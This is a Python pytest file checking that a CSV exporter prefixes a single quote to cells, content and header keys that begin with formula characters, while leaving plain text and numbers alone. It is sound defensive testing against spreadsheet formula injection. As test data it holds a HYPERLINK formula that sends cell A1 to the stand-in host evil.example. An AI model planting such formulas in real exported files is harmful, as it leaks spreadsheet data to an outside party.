"""CSV export: a cell a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io
import json

import pytest

from api.results_csv import CsvResults

HOSTILE_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def _rows(records: list[dict[str, object]], prompt: str, *, json_mode: bool) -> list[list[str]]:
    stream = io.StringIO()
    table = CsvResults(stream, prompt, json_mode, base=["index", "source_name"])
    for record in records:
        table.write(record)
    return list(csv.reader(io.StringIO(stream.getvalue())))


@pytest.mark.parametrize("start", HOSTILE_STARTS, ids=repr)
def test_cells_that_start_a_formula_are_prefixed_with_a_quote(start: str) -> None:
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
    record = {
        "index": 0, "source_name": f"{start}cmd.png", "status": "failed",
        "error": {"code": "corrupt_image", "message": f"{start}1+1"},
        "parsed": {"total": payload, "items": [{"name": f"{start}SUM(A1:A9)"}]},
    }  # fmt: skip
    template = json.dumps({"total": "Total", "items": [{"name": "Name"}]})
    header, row = _rows([record], template, json_mode=True)
    cells = dict(zip(header, row, strict=True))
    assert cells["source_name"] == f"'{start}cmd.png"
    assert cells["error_message"] == f"'{start}1+1"
    assert cells["total"] == f"'{payload}"
    assert cells["items.name"] == f"'{start}SUM(A1:A9)"


def test_content_is_neutralised_too_but_plain_text_and_numbers_are_left_alone() -> None:
    rows = _rows(
        [{"index": 1, "source_name": "a.png", "status": "succeeded", "content": "=2+2"},
         {"index": 2, "source_name": "b.png", "status": "succeeded", "content": "Total: -5"}],
        "Read it", json_mode=False,
    )  # fmt: skip
    assert rows[1] == ["1", "a.png", "succeeded", "", "", "'=2+2"]
    assert rows[2] == ["2", "b.png", "succeeded", "", "", "Total: -5"]
    numbers = _rows(
        [{"index": 0, "status": "succeeded", "parsed": {"total": -12.5}}],
        json.dumps({"total": "Total"}), json_mode=True,
    )  # fmt: skip
    assert numbers[1][-1] == "-12.5"


def test_a_template_key_that_starts_a_formula_is_quoted_in_the_header() -> None:
    header, row = _rows(
        [{"index": 0, "status": "succeeded", "parsed": {"=cmd": "x"}}],
        json.dumps({"=cmd": "Command"}), json_mode=True,
    )  # fmt: skip
    assert header[-1] == "'=cmd"
    assert row[-1] == "x"
